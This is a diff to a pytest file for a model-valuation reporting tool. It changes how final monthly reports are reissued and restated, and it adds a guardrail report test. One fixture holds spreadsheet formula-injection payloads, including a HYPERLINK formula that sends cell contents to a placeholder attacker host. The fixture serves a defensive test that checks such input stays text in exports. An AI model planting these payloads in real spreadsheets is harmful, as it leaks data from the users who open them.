@@ -218,10 +218,15 @@ def test_a_stored_snapshot_reads_the_same_after_new_data(in_demo: Path, cli) -> 
         # figures change only when the portfolio is valued again (a refresh would do it)
         assert value_json(cli, MONTH)["totals"]["net"] == value_before
         assert cli("revalue", "--as-of", AS_OF).code == 0
-        assert value_json(cli, MONTH)["totals"]["net"] != pytest.approx(value_before, abs=0.01)
+        # April's report is final: `value --month` keeps its figures and shows the newer ones as pending
+        now = value_json(cli, MONTH)
+        assert now["totals"]["net"] == value_before and now["final"]["version"] == 1
+        assert now["pending_restatement"]["net_after"] != pytest.approx(value_before, abs=0.01)
         after = report(cli, MONTH, "csv", in_demo / "b.csv", "--as-of", AS_OF)
         assert after["snapshot_id"] == before["snapshot_id"] and after["reused"]
-        assert (in_demo / "b.csv").read_bytes() == csv_before
+        assert after["pending_restatement"]["net_after"] == pytest.approx(now["pending_restatement"]["net_after"])
+        # the issued rows are unchanged; the pending restatement's rows follow them
+        assert (in_demo / "b.csv").read_bytes().startswith(csv_before)
         ctx = open_context()
         assert SnapshotStore(ctx.engine).get(before["snapshot_id"]).export("csv") == csv_before
     finally:
@@ -302,36 +307,7 @@ def test_snapshot_exports_itself_for_the_app(in_demo: Path) -> None:
     assert set(frame["month"]) == {MONTH}
 
 
-def test_a_viewer_cannot_restate_a_final_report(demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli) -> None:
-    """Under [auth] anyone may export (re-exporting the issued final report), but replacing a FINAL
-    snapshot needs an editor's credential, and the new snapshot records who restated it."""
-    from valuetrack.access import token_sha256
-
-    ws = tmp_path / "team"
-    shutil.copytree(demo, ws, ignore=shutil.ignore_patterns("*.db-wal", "*.db-shm"))
-    monkeypatch.chdir(ws)
-    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
-    monkeypatch.delenv("VALUETRACK_TOKEN", raising=False)
-    final = report(cli, "2026-02", "csv", ws / "feb.csv", "--as-of", AS_OF)  # issued in the open local mode
-    assert final["status"] == "final"
-    (ws / "valuetrack.toml").write_text(
-        '[store]\nurl = "sqlite:///valuetrack.db"\n[connections.demo]\nurl = "duckdb:///sample_data/demo.duckdb"\n'
-        '[auth]\ndefault_role = "viewer"\neditors = ["ed@example.com"]\n'
-        f'[auth.service_accounts."ed@example.com"]\ntoken_sha256 = "{token_sha256("ed-token")}"\n')
-    monkeypatch.setenv("VALUETRACK_USER", "ed@example.com")  # claimed, not authenticated
-    again = report(cli, "2026-02", "csv", ws / "feb2.csv")
-    assert again["snapshot_id"] == final["snapshot_id"] and again["reused"]
-    refused = cli("report", "--month", "2026-02", "--format", "csv", "--out", ws / "feb3.csv", "--restate", "--json")
-    assert refused.code == 1 and refused.json["error"]["code"] == "permission_denied"
-    assert "restate the final report of 2026-02" in refused.json["error"]["message"]
-    assert not (ws / "feb3.csv").exists()
-    monkeypatch.setenv("VALUETRACK_TOKEN", "ed-token")
-    restated = report(cli, "2026-02", "csv", ws / "feb3.csv", "--restate", "--as-of", "2026-06-16")
-    assert not restated["reused"] and restated["supersedes"] == final["snapshot_id"]
-    from valuetrack.context import open_context
-    from valuetrack.reports import SnapshotStore
-
-    assert SnapshotStore(open_context().engine).get(restated["snapshot_id"]).created_by == "ed@example.com"
+# a viewer cannot apply a restatement of a final month: tests/reports/test_final_months.py
 
 
 FORMULAS = {"display_name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "owner": "+1+1",
@@ -356,9 +332,9 @@ def test_formula_payloads_in_registry_text_stay_text(demo: Path, tmp_path: Path,
     ctx = open_context(actor=Actor("mallory"))
     victim = ctx.registry.get("homepage-recs")
     save(ctx, victim.spec.replace(**FORMULAS), expected_revision=victim.revision)  # the edit is valued at once
-    # a final report of the month may exist already: issue one that carries the edited names
-    report(cli, MONTH, "xlsx", ws / "r.xlsx", "--as-of", AS_OF, "--restate")
-    report(cli, MONTH, "csv", ws / "r.csv", "--as-of", AS_OF)
+    # a final month reads as issued (D34): May, still provisional, is issued again with the edited names
+    report(cli, "2026-05", "xlsx", ws / "r.xlsx", "--as-of", AS_OF)
+    report(cli, "2026-05", "csv", ws / "r.csv", "--as-of", AS_OF)
 
     wb = openpyxl.load_workbook(ws / "r.xlsx")
     cells = [c for sheet in wb.worksheets for row in sheet.iter_rows() for c in row]
@@ -383,13 +359,13 @@ def test_the_report_shows_the_value_at_risk_and_the_decisions(in_demo: Path, cli
     """Read back: the portfolio's value at risk as `value --var` reads it, and the classifier's
     decisions in the month as `value --month` computes them, in the PDF, the HTML and the CSV."""
     var = cli("value", "--as-of", AS_OF, "--var", "--json", schema="value").json["var"]
-    fraud = next(m for m in value_json(cli, MONTH)["models"] if m["model"] == "fraud-screen")
+    month = "2026-05"  # provisional: issued again after the edits other tests made (a final month reads as issued)
+    fraud = next(m for m in value_json(cli, month)["models"] if m["model"] == "fraud-screen")
     d, cur = fraud["decisions"], fraud["currency"]
     pdf, page, table = in_demo / "r.pdf", in_demo / "r.html", in_demo / "r.csv"
-    # the month's final report may predate edits other tests made (a retire is valued at once): issue it again
-    report(cli, MONTH, "pdf", pdf, "--as-of", AS_OF, "--restate")
+    report(cli, month, "pdf", pdf, "--as-of", AS_OF)
     for fmt, path in (("html", page), ("csv", table)):
-        report(cli, MONTH, fmt, path, "--as-of", AS_OF)
+        report(cli, month, fmt, path, "--as-of", AS_OF)
     text, doc = pdf_text(pdf), page.read_text(encoding="utf-8")
     for h in ("12m", "1m"):
         for k in ("expected", "var", "es"):
@@ -404,7 +380,7 @@ def test_the_report_shows_the_value_at_risk_and_the_decisions(in_demo: Path, cli
     assert rows[("(portfolio)", "var_12m")] == pytest.approx(var["horizons"]["12m"]["var"], abs=1e-6)
     assert ("homepage-recs", "decisions_total") not in rows.index
     xlsx = in_demo / "r.xlsx"
-    report(cli, MONTH, "xlsx", xlsx, "--as-of", AS_OF)
+    report(cli, month, "xlsx", xlsx, "--as-of", AS_OF)
     from openpyxl import load_workbook
 
     wb = load_workbook(xlsx, data_only=True)
@@ -498,3 +474,33 @@ def test_both_cost_views_in_every_format(in_demo: Path, cli) -> None:
     cells = {r[0].value: r[1].value for r in sheet.iter_rows()}
     assert round(cells[NET_LOADED], 2) == round(truth["net_fully_loaded"], 2)
     assert round(cells["One-off costs amortised"], 2) == round(truth["amortisation"], 2)
+
+
+def test_the_report_shows_each_guardrail(in_demo: Path, cli) -> None:
+    """coupon-targeting's guardrails in the month, read back from the PDF, the HTML, the CSV and the
+    XLSX: each harm against its tolerance, and which money is in net value and which is inside the KPI."""
+    from valuetrack.formatting import kpi_amount
+
+    month = "2026-05"
+    m = next(x for x in value_json(cli, month)["models"] if x["model"] == "coupon-targeting")
+    out = {fmt: in_demo / f"g.{fmt}" for fmt in ("pdf", "html", "csv", "xlsx")}
+    for fmt, path in out.items():
+        report(cli, month, fmt, path, "--as-of", AS_OF)
+    text, doc = pdf_text(out["pdf"]), out["html"].read_text(encoding="utf-8")
+    assert "Guardrails" in text and "Guardrails" in doc
+    for g in m["guardrails"]:
+        for shown in (kpi_amount(g["harm_per_unit"], g["unit"]), kpi_amount(g["tolerance"], g["unit"]), g["name"]):
+            assert shown in text and shown in doc, shown
+    assert "in net value" in doc and "inside the KPI: not added" in doc
+    rows = pd.read_csv(out["csv"]).set_index(["model", "metric"])["value"].astype(float)
+    for g in m["guardrails"]:
+        assert rows[("coupon-targeting", f"guardrail_{g['name']}_harm_per_unit")] == pytest.approx(g["harm_per_unit"])
+        assert rows[("coupon-targeting", f"guardrail_{g['name']}_value")] == pytest.approx(g["value"])
+        assert rows[("coupon-targeting", f"guardrail_{g['name']}_in_net")] == float(g["in_net"])
+    from openpyxl import load_workbook
+
+    sheet = next(s for s in load_workbook(out["xlsx"], data_only=True).worksheets if s["B2"].value == "coupon-targeting")
+    cells = {r[0].value: r[1].value for r in sheet.iter_rows() if r[0].value}
+    rate = next(g for g in m["guardrails"] if g["name"] == "refund_rate")
+    assert cells["Guardrail refund_rate: money"] == pytest.approx(rate["value"])
+    assert cells["Guardrail refund_rate: money in net value"] is True
